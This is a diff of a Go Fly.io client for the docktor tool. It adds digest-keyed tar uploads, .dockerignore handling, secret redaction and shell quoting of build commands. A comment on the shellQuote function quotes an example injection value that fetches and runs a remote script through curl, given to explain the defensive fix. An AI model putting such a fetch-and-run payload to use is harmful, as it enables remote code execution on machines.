@@ -1,14 +1,25 @@
 package fly
 
 import (
+	"archive/tar"
 	"bytes"
+	"compress/gzip"
+	"context"
+	"crypto/sha256"
+	"encoding/hex"
 	"encoding/json"
 	"fmt"
 	"io"
-	"mime/multipart"
+	"log/slog"
 	"net/http"
 	"os"
 	"path/filepath"
+	"strings"
+	"time"
+
+	"github.com/google/uuid"
+	"github.com/nmsde/docktor/internal/logging"
+	"github.com/sabhiram/go-gitignore"
 )
 
 type Client struct {
@@ -37,7 +48,8 @@ func NewClient(apiToken string) (*Client, error) {
 		return nil, fmt.Errorf("API token is required")
 	}
 
-	fmt.Printf("Initializing Fly.io client with token length: %d\n", len(apiToken))
+	logging.RegisterSecret(apiToken)
+	slog.Debug("initializing Fly.io client", "token_length", len(apiToken))
 
 	return &Client{
 		apiToken: apiToken,
@@ -46,9 +58,34 @@ func NewClient(apiToken string) (*Client, error) {
 	}, nil
 }
 
-func (c *Client) CreateApp(orgID, region string) (*App, error) {
-	appID := fmt.Sprintf("docktor-%d", os.Getpid())
-	
+// Ping exercises the configured API token against a lightweight,
+// read-only endpoint so callers can verify Fly.io credentials without
+// provisioning anything.
+func (c *Client) Ping(ctx context.Context) error {
+	req, err := http.NewRequestWithContext(ctx, "GET", fmt.Sprintf("%s/apps", c.baseURL), nil)
+	if err != nil {
+		return fmt.Errorf("failed to create ping request: %w", err)
+	}
+	req.Header.Set("Authorization", "Bearer "+c.apiToken)
+
+	resp, err := c.client.Do(req)
+	if err != nil {
+		return fmt.Errorf("failed to reach Fly.io API: %w", err)
+	}
+	defer resp.Body.Close()
+
+	if resp.StatusCode == http.StatusUnauthorized || resp.StatusCode == http.StatusForbidden {
+		return fmt.Errorf("Fly.io rejected the configured API token (status %d)", resp.StatusCode)
+	}
+
+	return nil
+}
+
+// CreateApp creates (or, if it already exists, adopts) the app named
+// appID. Callers that want to amortize provisioning cost across several
+// jobs should create one app per run and pass the same appID into every
+// CreateMachine call rather than generating a fresh one per job.
+func (c *Client) CreateApp(appID, orgID string) (*App, error) {
 	appPayload := map[string]interface{}{
 		"app_name": appID,
 		"org_slug": orgID,
@@ -108,16 +145,13 @@ func (c *Client) DestroyApp(appID string) error {
 	return nil
 }
 
-func (c *Client) CreateMachine(orgID, region string) (*Machine, error) {
-	// First, create an app
-	app, err := c.CreateApp(orgID, region)
-	if err != nil {
-		return nil, fmt.Errorf("failed to create app: %w", err)
-	}
-
-	// Now create the machine in the app
+// CreateMachine provisions a machine in the given (already-created) app.
+// The machine name includes a random suffix so that concurrent callers
+// targeting the same app, as BuildAndScanMany's worker pool does, never
+// collide on a shared "docktor-<pid>" name.
+func (c *Client) CreateMachine(appID, region string) (*Machine, error) {
 	machinePayload := map[string]interface{}{
-		"name":   fmt.Sprintf("docktor-%d", os.Getpid()),
+		"name":   fmt.Sprintf("docktor-%s", uuid.New().String()[:8]),
 		"region": region,
 		"config": map[string]interface{}{
 			"image": "flyio/ubuntu:22.04",
@@ -161,7 +195,7 @@ func (c *Client) CreateMachine(orgID, region string) (*Machine, error) {
 		return nil, fmt.Errorf("failed to marshal machine config: %w", err)
 	}
 
-	req, err := http.NewRequest("POST", fmt.Sprintf("%s/apps/%s/machines", c.baseURL, app.Name), bytes.NewBuffer(jsonData))
+	req, err := http.NewRequest("POST", fmt.Sprintf("%s/apps/%s/machines", c.baseURL, appID), bytes.NewBuffer(jsonData))
 	if err != nil {
 		return nil, fmt.Errorf("failed to create request: %w", err)
 	}
@@ -186,61 +220,108 @@ func (c *Client) CreateMachine(orgID, region string) (*Machine, error) {
 	}
 
 	// Store the app ID in the machine for cleanup
-	machine.AppID = app.Name
+	machine.AppID = appID
 
 	return &machine, nil
 }
 
-func (c *Client) UploadProject(machineID, projectPath string) error {
-	// Create a new multipart form
-	body := &bytes.Buffer{}
-	writer := multipart.NewWriter(body)
+// UploadOptions configures UploadContext.
+type UploadOptions struct {
+	// Force re-uploads the archive even if the server already has an
+	// object at this digest.
+	Force bool
+}
+
+// UploadContext builds a deterministic, .dockerignore-aware tar+gzip
+// archive of root and uploads it as a single application/x-tar body,
+// keyed by the archive's SHA256 digest. If the server already holds an
+// object at that digest (checked via HEAD /uploads/{sha}), the upload is
+// skipped unless opts.Force is set. It returns the archive's digest.
+func (c *Client) UploadContext(ctx context.Context, root string, opts UploadOptions) (string, error) {
+	archivePath, digest, err := buildContextArchive(root)
+	if err != nil {
+		return "", fmt.Errorf("failed to build context archive: %w", err)
+	}
+	defer os.Remove(archivePath)
 
-	// Walk through the project directory
-	err := filepath.Walk(projectPath, func(path string, info os.FileInfo, err error) error {
+	if !opts.Force {
+		exists, err := c.objectExists(ctx, digest)
 		if err != nil {
-			return err
+			return "", fmt.Errorf("failed to check upload cache: %w", err)
 		}
-
-		// Skip directories
-		if info.IsDir() {
-			return nil
+		if exists {
+			return digest, nil
 		}
+	}
 
-		// Create a form file
-		part, err := writer.CreateFormFile("files", path)
-		if err != nil {
-			return fmt.Errorf("failed to create form file: %w", err)
-		}
+	archive, err := os.Open(archivePath)
+	if err != nil {
+		return "", fmt.Errorf("failed to open context archive: %w", err)
+	}
+	defer archive.Close()
 
-		// Open and copy the file
-		file, err := os.Open(path)
-		if err != nil {
-			return fmt.Errorf("failed to open file: %w", err)
-		}
-		defer file.Close()
+	req, err := http.NewRequestWithContext(ctx, "PUT", fmt.Sprintf("%s/uploads/%s", c.baseURL, digest), archive)
+	if err != nil {
+		return "", fmt.Errorf("failed to create upload request: %w", err)
+	}
 
-		if _, err := io.Copy(part, file); err != nil {
-			return fmt.Errorf("failed to copy file: %w", err)
-		}
+	req.Header.Set("Authorization", "Bearer "+c.apiToken)
+	req.Header.Set("Content-Type", "application/x-tar")
 
-		return nil
-	})
+	resp, err := c.client.Do(req)
+	if err != nil {
+		return "", fmt.Errorf("failed to upload context: %w", err)
+	}
+	defer resp.Body.Close()
+
+	if resp.StatusCode != http.StatusOK && resp.StatusCode != http.StatusCreated {
+		body, _ := io.ReadAll(resp.Body)
+		return "", fmt.Errorf("failed to upload context: %s", string(body))
+	}
+
+	return digest, nil
+}
+
+// objectExists checks whether the server already has an uploaded context
+// archive at the given digest.
+func (c *Client) objectExists(ctx context.Context, digest string) (bool, error) {
+	req, err := http.NewRequestWithContext(ctx, "HEAD", fmt.Sprintf("%s/uploads/%s", c.baseURL, digest), nil)
+	if err != nil {
+		return false, fmt.Errorf("failed to create HEAD request: %w", err)
+	}
+	req.Header.Set("Authorization", "Bearer "+c.apiToken)
+
+	resp, err := c.client.Do(req)
+	if err != nil {
+		return false, fmt.Errorf("failed to check object: %w", err)
+	}
+	defer resp.Body.Close()
+
+	return resp.StatusCode == http.StatusOK, nil
+}
 
+// UploadProject uploads projectPath as a deterministic tar+gzip archive
+// directly to the given machine.
+func (c *Client) UploadProject(machineID, projectPath string) error {
+	archivePath, _, err := buildContextArchive(projectPath)
 	if err != nil {
-		return fmt.Errorf("failed to walk project directory: %w", err)
+		return fmt.Errorf("failed to build context archive: %w", err)
 	}
+	defer os.Remove(archivePath)
 
-	writer.Close()
+	archive, err := os.Open(archivePath)
+	if err != nil {
+		return fmt.Errorf("failed to open context archive: %w", err)
+	}
+	defer archive.Close()
 
-	// Create the request
-	req, err := http.NewRequest("POST", fmt.Sprintf("%s/machines/%s/upload", c.baseURL, machineID), body)
+	req, err := http.NewRequest("POST", fmt.Sprintf("%s/machines/%s/upload", c.baseURL, machineID), archive)
 	if err != nil {
 		return fmt.Errorf("failed to create request: %w", err)
 	}
 
 	req.Header.Set("Authorization", "Bearer "+c.apiToken)
-	req.Header.Set("Content-Type", writer.FormDataContentType())
+	req.Header.Set("Content-Type", "application/x-tar")
 
 	resp, err := c.client.Do(req)
 	if err != nil {
@@ -256,13 +337,184 @@ func (c *Client) UploadProject(machineID, projectPath string) error {
 	return nil
 }
 
-func (c *Client) BuildImage(machineID string, contextPath string, dockerfilePath string) (string, error) {
+// buildContextArchive walks root and writes a reproducible tar+gzip
+// archive (honoring .dockerignore) to a temporary file, returning its path
+// and SHA256 digest. File mode, uid/gid and mtime are normalized so that
+// an unchanged tree always produces the same bytes.
+func buildContextArchive(root string) (archivePath string, digest string, err error) {
+	dockerignore, err := loadDockerignore(root)
+	if err != nil {
+		return "", "", fmt.Errorf("failed to load .dockerignore: %w", err)
+	}
+
+	tmpFile, err := os.CreateTemp("", "docktor-context-*.tar.gz")
+	if err != nil {
+		return "", "", fmt.Errorf("failed to create temporary file: %w", err)
+	}
+
+	hasher := sha256.New()
+	gzipWriter := gzip.NewWriter(io.MultiWriter(tmpFile, hasher))
+	tarWriter := tar.NewWriter(gzipWriter)
+
+	walkErr := filepath.Walk(root, func(path string, info os.FileInfo, err error) error {
+		if err != nil {
+			return err
+		}
+		if path == root {
+			return nil
+		}
+
+		relPath, err := filepath.Rel(root, path)
+		if err != nil {
+			return fmt.Errorf("failed to get relative path: %w", err)
+		}
+
+		// Docker always includes the Dockerfile and .dockerignore, even
+		// if a pattern would otherwise exclude them.
+		alwaysKeep := relPath == "Dockerfile" || relPath == ".dockerignore"
+
+		if !alwaysKeep && dockerignore != nil && dockerignore.MatchesPath(relPath) {
+			if info.IsDir() {
+				return filepath.SkipDir
+			}
+			return nil
+		}
+
+		header, err := tar.FileInfoHeader(info, "")
+		if err != nil {
+			return fmt.Errorf("failed to create tar header: %w", err)
+		}
+		header.Name = relPath
+		normalizeHeader(header, info)
+
+		if err := tarWriter.WriteHeader(header); err != nil {
+			return fmt.Errorf("failed to write tar header: %w", err)
+		}
+
+		if info.Mode().IsRegular() {
+			file, err := os.Open(path)
+			if err != nil {
+				return fmt.Errorf("failed to open file: %w", err)
+			}
+			defer file.Close()
+
+			if _, err := io.Copy(tarWriter, file); err != nil {
+				return fmt.Errorf("failed to write file to tar: %w", err)
+			}
+		}
+
+		return nil
+	})
+
+	if walkErr != nil {
+		tmpFile.Close()
+		os.Remove(tmpFile.Name())
+		return "", "", fmt.Errorf("failed to create tar archive: %w", walkErr)
+	}
+
+	if err := tarWriter.Close(); err != nil {
+		tmpFile.Close()
+		os.Remove(tmpFile.Name())
+		return "", "", fmt.Errorf("failed to close tar writer: %w", err)
+	}
+	if err := gzipWriter.Close(); err != nil {
+		tmpFile.Close()
+		os.Remove(tmpFile.Name())
+		return "", "", fmt.Errorf("failed to close gzip writer: %w", err)
+	}
+	if err := tmpFile.Close(); err != nil {
+		os.Remove(tmpFile.Name())
+		return "", "", fmt.Errorf("failed to close temporary file: %w", err)
+	}
+
+	return tmpFile.Name(), hex.EncodeToString(hasher.Sum(nil)), nil
+}
+
+// epoch is the fixed modification time written into every tar header so
+// that identical file contents always produce an identical archive.
+var epoch = time.Unix(0, 0).UTC()
+
+// normalizeHeader strips non-reproducible metadata (uid/gid, mtime, and
+// the name/group fields) from a tar header, keeping only the file mode.
+func normalizeHeader(header *tar.Header, info os.FileInfo) {
+	header.Uid = 0
+	header.Gid = 0
+	header.Uname = ""
+	header.Gname = ""
+	header.ModTime = epoch
+	header.AccessTime = time.Time{}
+	header.ChangeTime = time.Time{}
+
+	if info.IsDir() {
+		header.Mode = 0755
+	} else {
+		header.Mode = 0644
+	}
+}
+
+// loadDockerignore reads <root>/.dockerignore, if present, preserving
+// pattern order so later "!" negations can override earlier matches.
+func loadDockerignore(root string) (*ignore.GitIgnore, error) {
+	path := filepath.Join(root, ".dockerignore")
+	content, err := os.ReadFile(path)
+	if err != nil {
+		if os.IsNotExist(err) {
+			return nil, nil
+		}
+		return nil, fmt.Errorf("failed to read .dockerignore: %w", err)
+	}
+
+	lines := bytes.Split(content, []byte("\n"))
+	patterns := make([]string, 0, len(lines))
+	for _, line := range lines {
+		l := string(bytes.TrimSpace(line))
+		if l == "" || l[0] == '#' {
+			continue
+		}
+		patterns = append(patterns, l)
+	}
+
+	return ignore.CompileIgnoreLines(patterns...), nil
+}
+
+// BuildImageOptions configures the `docker build` invocation run by
+// BuildImage.
+type BuildImageOptions struct {
+	BuildArgs map[string]string
+	Platform  string
+}
+
+// shellQuote wraps s in single quotes so the remote shell treats it as one
+// opaque argument no matter what it contains, escaping any single quote in
+// s the usual POSIX way ('\''). Every value interpolated into a command
+// string sent to execCommand/execCapture must go through this: those
+// commands ultimately come from user-authored config (matrix.yaml build
+// args, platform, trivy options), and an unquoted value like
+// "`$(curl evil.sh|sh)`" would otherwise execute arbitrary commands on the
+// machine.
+func shellQuote(s string) string {
+	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
+}
+
+// BuildImage runs `docker build` on the machine, streaming its combined
+// stdout/stderr to out as the build progresses rather than returning it
+// only once the command finishes. out may be nil to discard the output.
+func (c *Client) BuildImage(machineID string, contextPath string, dockerfilePath string, opts BuildImageOptions, out io.Writer) (string, error) {
 	// Create a unique image name
 	imageName := fmt.Sprintf("docktor-%s", machineID)
 
+	buildCmd := fmt.Sprintf("docker build -t %s -f %s", shellQuote(imageName), shellQuote(dockerfilePath))
+	if opts.Platform != "" {
+		buildCmd += fmt.Sprintf(" --platform %s", shellQuote(opts.Platform))
+	}
+	for k, v := range opts.BuildArgs {
+		buildCmd += fmt.Sprintf(" --build-arg %s", shellQuote(k+"="+v))
+	}
+	buildCmd += " ."
+
 	// Build the Docker image
-	cmd := fmt.Sprintf("cd %s && docker build -t %s -f %s .", contextPath, imageName, dockerfilePath)
-	if err := c.execCommand(machineID, cmd); err != nil {
+	cmd := fmt.Sprintf("cd %s && %s", shellQuote(contextPath), buildCmd)
+	if err := c.execCommand(machineID, cmd, out); err != nil {
 		return "", fmt.Errorf("failed to build image: %w", err)
 	}
 
@@ -291,7 +543,76 @@ func (c *Client) DestroyMachine(machineID string) error {
 	return nil
 }
 
-func (c *Client) execCommand(machineID string, cmd string) error {
+// ExecScan starts scanCmd in the background on machineID, then waits for
+// it to finish and returns the contents of resultPath - both in a single
+// follow-up exec call, rather than a separate poll loop and a separate
+// read. ctx cancellation aborts the wait; the scan keeps running detached
+// on the machine, so callers that need to interrupt it immediately (rather
+// than waiting for the machine's own teardown) should follow up with
+// KillAndCleanup.
+func (c *Client) ExecScan(ctx context.Context, machineID, scanCmd, resultPath string) ([]byte, error) {
+	startCmd := fmt.Sprintf("(%s) >/tmp/docktor-scan.log 2>&1 & echo $!", scanCmd)
+	pidOut, err := c.execCapture(ctx, machineID, startCmd)
+	if err != nil {
+		return nil, fmt.Errorf("failed to start scan: %w", err)
+	}
+	pid := strings.TrimSpace(string(pidOut))
+
+	waitCmd := fmt.Sprintf("while kill -0 %s 2>/dev/null; do sleep 1; done; cat %s", pid, shellQuote(resultPath))
+	out, err := c.execCapture(ctx, machineID, waitCmd)
+	if err != nil {
+		return nil, fmt.Errorf("failed to wait for scan: %w", err)
+	}
+
+	return out, nil
+}
+
+// KillAndCleanup best-effort kills any running `trivy image` process on
+// machineID and removes resultPath, for use when a scan started by
+// ExecScan is interrupted (e.g. Ctrl-C) and shouldn't be left running or
+// shouldn't leave its output file behind. It uses its own short timeout
+// rather than ctx, since ctx is typically already cancelled by the time
+// this is called.
+func (c *Client) KillAndCleanup(machineID, resultPath string) error {
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+
+	cmd := fmt.Sprintf("pkill -f 'trivy image' 2>/dev/null; rm -f %s", shellQuote(resultPath))
+	_, err := c.execCapture(ctx, machineID, cmd)
+	return err
+}
+
+// execCapture runs cmd on machineID and returns its full response body,
+// honoring ctx cancellation.
+func (c *Client) execCapture(ctx context.Context, machineID, cmd string) ([]byte, error) {
+	req, err := http.NewRequestWithContext(ctx, "POST", fmt.Sprintf("%s/machines/%s/exec", c.baseURL, machineID), bytes.NewBufferString(cmd))
+	if err != nil {
+		return nil, fmt.Errorf("failed to create request: %w", err)
+	}
+
+	req.Header.Set("Authorization", "Bearer "+c.apiToken)
+	req.Header.Set("Content-Type", "application/json")
+
+	resp, err := c.client.Do(req)
+	if err != nil {
+		return nil, fmt.Errorf("failed to execute command: %w", err)
+	}
+	defer resp.Body.Close()
+
+	if resp.StatusCode != http.StatusOK {
+		body, _ := io.ReadAll(resp.Body)
+		return nil, fmt.Errorf("command execution failed: %s", string(body))
+	}
+
+	return io.ReadAll(resp.Body)
+}
+
+// execCommand runs cmd on machineID and streams the response body to out
+// as it arrives, so a caller watching out sees build/scan output in real
+// time instead of waiting for the whole command to finish. out may be
+// nil, in which case the output is discarded. Secrets registered via
+// logging.RegisterSecret are redacted from anything written to out.
+func (c *Client) execCommand(machineID string, cmd string, out io.Writer) error {
 	req, err := http.NewRequest("POST", fmt.Sprintf("%s/machines/%s/exec", c.baseURL, machineID), bytes.NewBufferString(cmd))
 	if err != nil {
 		return fmt.Errorf("failed to create request: %w", err)
@@ -311,5 +632,12 @@ func (c *Client) execCommand(machineID string, cmd string) error {
 		return fmt.Errorf("command execution failed: %s", string(body))
 	}
 
+	if out == nil {
+		out = io.Discard
+	}
+	if _, err := io.Copy(logging.NewRedactingWriter(out), resp.Body); err != nil {
+		return fmt.Errorf("failed to stream command output: %w", err)
+	}
+
 	return nil
 } 
\ No newline at end of file